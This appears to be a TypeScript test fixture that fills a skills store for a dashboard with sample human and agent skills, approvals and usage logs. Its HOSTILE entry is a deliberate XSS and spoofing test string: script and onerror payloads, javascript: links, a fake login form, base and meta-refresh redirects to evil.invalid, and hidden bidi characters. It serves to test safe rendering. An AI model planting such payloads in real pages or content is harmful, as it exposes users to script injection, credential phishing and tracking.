// A home as it looks after some weeks: skills of people and agents, what was used and how it went, drafts, a hostile text.
// Pages are looked at with it; the pictures in docs/pictures are of it.
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { writeSkill } from '../support/written-skills.ts'
import type { Dashboard } from './dashboard.ts'

const DAY_MS = 86_400_000

type Written = [name: string, summary: string, content: string, more?: Record<string, unknown>]

const BY_PEOPLE: Written[] = [
  [
    'deploy/staging',
    'Deploy a service to staging and check that it is healthy',
    '# Deploy to staging\n\n1. Make sure that `main` is green.\n2. Run `make deploy ENV=staging`.\n3. Watch the health page until every instance is up:\n\n```sh\ncurl --fail https://staging.example.org/health\n```\n\n| Step | Takes |\n| --- | --- |\n| Build | 3 min |\n| Roll out | 2 min |\n\n> Roll back with `make rollback ENV=staging` when an instance stays down for a minute.\n',
    {
      tags: ['deploy', 'ops'],
      triggers: ['deploy to staging', 'ship it to staging'],
      seeAlso: ['deploy/rollback', 'incident/triage'],
      dependsOn: ['git/release-branch'],
      steps: [
        { action: 'Check main', description: 'The last pipeline must be green', tool: 'ci' },
        { action: 'Run the deploy', tool: 'shell' },
        { action: 'Watch health' },
      ],
      policy: {
        tools: ['shell', 'ci'],
        domains: ['staging.example.org'],
        credentials: ['DEPLOY_TOKEN'],
        sideEffects: ['write:staging'],
      },
      createdAt: '2026-09-02T09:00:00.000Z',
    },
  ],
  [
    'deploy/rollback',
    'Take a service back to the last good release',
    '# Roll back\n\nFind the last good tag, then `make rollback TAG=<tag>`.\n',
    { tags: ['deploy', 'ops'], seeAlso: ['deploy/staging'], createdAt: '2026-09-02T09:30:00.000Z' },
  ],
  [
    'git/release-branch',
    'Cut a release branch and tag it',
    '# Release branch\n\n- Branch from `main`.\n- Bump the version.\n- Tag it.\n',
    { tags: ['git'], createdAt: '2026-08-20T12:00:00.000Z' },
  ],
  [
    'incident/triage',
    'Triage an alert: who is affected, since when, what changed',
    '# Triage\n\nAsk three things, in this order.\n',
    { tags: ['ops', 'incident'], createdAt: '2026-10-01T08:00:00.000Z' },
  ],
  [
    'incident/postmortem',
    'Write a blameless postmortem from the timeline of an incident',
    '# Postmortem\n\nTimeline first, causes second, actions last.\n',
    { tags: ['incident', 'writing'], seeAlso: ['incident/triage'], createdAt: '2026-10-03T08:00:00.000Z' },
  ],
  [
    'mcp/email',
    'Send email through an MCP-connected mail server',
    '# Send email\n\nDraft first, show the person, then send.\n',
    { tags: ['mail'], seeAlso: ['mcp/calendar'], createdAt: '2026-07-11T10:00:00.000Z' },
  ],
  [
    'mcp/calendar',
    'Find a slot and put a meeting into the calendar',
    '# Calendar\n\nLook for three slots and offer them.\n',
    { tags: ['mail'], createdAt: '2026-07-12T10:00:00.000Z' },
  ],
  [
    'sql/slow-query',
    'Find out why a query is slow and make it fast',
    '# Slow queries\n\n`EXPLAIN (ANALYZE, BUFFERS)` before anything else.\n',
    { tags: ['sql', 'data'], createdAt: '2026-10-20T10:00:00.000Z' },
  ],
  [
    'writing/changelog',
    'Write changelog lines that say the effect for the user',
    '# Changelog\n\nOne sentence a change: what is different for whoever uses it.\n',
    { tags: ['writing'], createdAt: '2026-11-01T10:00:00.000Z' },
  ],
]

/** A text that tries what can be tried: scripts, remote pictures, links that run, characters that hide or turn words round. */
export const HOSTILE = {
  name: 'hostile/everything',
  summary: 'Looks \u202eharmless\u202c and\u200b is not <img src=x onerror=alert(1)>',
  content: [
    '# Hello <script>document.title = "owned"</script>',
    '',
    '<img src="https://evil.invalid/pixel.png" onerror="alert(1)">',
    '',
    '![tracking](https://evil.invalid/pixel.gif)',
    '<svg onload="alert(2)"><use href="https://evil.invalid/x.svg#a"/></svg>',
    '<iframe src="https://evil.invalid"></iframe><style>@import "https://evil.invalid/a.css"; body { display: none }</style>',
    '',
    '[a friendly link](javascript:alert(3)) and [another](data:text/html,<script>alert(4)</script>) and',
    '[the bank](https://evil.invalid/bank "title") and <https://evil.invalid/auto>',
    '',
    'Invisible: zero\u200bwidth, \u202eturned around\u202c, entity &#x202e;hidden&#x202c; and a tag \u{e0041}\u{e0042}.',
    '',
    '<form action="https://evil.invalid"><input name="token"><button>Log in</button></form>',
    '<a id="app" name="token" href="https://evil.invalid/clobber">clobber</a>',
    '',
    '```html',
    '<script>alert(5)</script>',
    '```',
    '',
    `| a | b |\n| - | - |\n| <base href="https://evil.invalid/"> | <meta http-equiv="refresh" content="0;url=https://evil.invalid"> |`,
  ].join('\n'),
}

/** What lies in the home before the server starts. */
export function writeLivedInHome(home: string): void {
  for (const [name, summary, content, more] of BY_PEOPLE) writeSkill(home, name, content, { summary, ...more })
  writeSkill(home, HOSTILE.name, HOSTILE.content, { summary: HOSTILE.summary, tags: ['<b>bold</b>'] })
  writeUse(home)
}

/** What agents did with it since, over the API. */
export async function liveInHome({ ask }: Pick<Dashboard, 'ask'>): Promise<void> {
  await saveAsAgent(ask)
  await ask('POST /api/skills/pin', { name: 'git/release-branch', pinned: true })
  await ask('POST /api/skills/deprecate', {
    name: 'mcp/calendar',
    reason: 'the new calendar has no such tool',
    supersededBy: 'mcp/email',
  })
}

async function saveAsAgent(ask: Dashboard['ask']): Promise<void> {
  const agent = (name: string, summary: string, content: string, more = {}) =>
    ask('POST /api/skills', { name, summary, content, ...more }, 'agent')
  await agent(
    'python/flaky-tests',
    'Find out why a test fails only sometimes',
    '# Flaky tests\n\nRun it a hundred times with a fixed seed:\n\n```sh\npytest -p no:randomly --count=100 tests/\n```\n',
    { tags: ['python', 'testing'] },
  )
  await agent('python/packaging', 'Build and publish a wheel', '# Wheels\n\nUse `uv build`, then `uv publish`.\n', {
    tags: ['python'],
  })
  await agent('docs/diagram', 'Draw a diagram of a flow in Mermaid', '# Diagrams\n\nSmall ones: seven boxes at most.\n')
  // Onto what a person wrote an agent's change becomes a draft.
  await agent(
    'deploy/staging',
    'Deploy a service to staging and check that it is healthy',
    '# Deploy to staging\n\n1. Make sure that `main` is green.\n2. Run `make deploy ENV=staging FORCE=1`.\n3. Watch the health page.\n',
  )
  await ask('DELETE /api/skills?name=writing/changelog', undefined, 'agent')
  const { waiting } = (await ask('GET /api/approvals')) as { waiting: { name: string; hash: string }[] }
  const packaging = waiting.find(({ name }) => name === 'python/packaging')
  if (packaging !== undefined) await ask('POST /api/approvals/approve', { name: packaging.name, hash: packaging.hash })
}

/** How skills were used in the last weeks, as the journal holds it: message, recall, load, outcome. */
function writeUse(home: string): void {
  const used = (skill: string, daysAgo: readonly number[], outcome: string) => {
    for (const days of daysAgo) writeSession(home, `s-${skill.replaceAll('/', '-')}-${days}`, skill, days, outcome)
  }
  used('deploy/staging', [1, 3, 4, 6, 8, 12, 15, 19, 23, 28], 'success')
  used('deploy/staging', [9], 'runtime_error')
  used('sql/slow-query', [2, 5, 11, 16], 'success')
  used('python/flaky-tests', [1, 2, 3, 7], 'task_mismatch')
  used('python/flaky-tests', [9], 'success')
  used('incident/triage', [20, 27], 'success')
  used('mcp/email', [0, 1, 2, 5, 7, 13, 14, 21], 'success')
}

function writeSession(home: string, sessionId: string, skill: string, daysAgo: number, outcome: string): void {
  const at = Date.now() - daysAgo * DAY_MS
  const line = (seq: number, event: string, more: Record<string, unknown>) => {
    const timestamp = new Date(at + seq * 60_000 - 10 * 60_000).toISOString()
    return JSON.stringify({ event, id: `${sessionId}-${seq}`, sessionId, timestamp, seq, actor: 'agent', ...more })
  }
  const lines = [
    line(1, 'session-started', { client: 'claude-code' }),
    line(2, 'recalled', { skills: [skill], related: [], confidence: 0.9, blockChars: 400 }),
    line(3, 'loaded', { skillName: skill, version: 1, how: 'recalled' }),
    line(4, 'outcome', { skill, outcome }),
  ]
  mkdirSync(join(home, 'skill-usage'), { recursive: true })
  writeFileSync(join(home, 'skill-usage', `${sessionId}.jsonl`), `${lines.join('\n')}\n`)
}
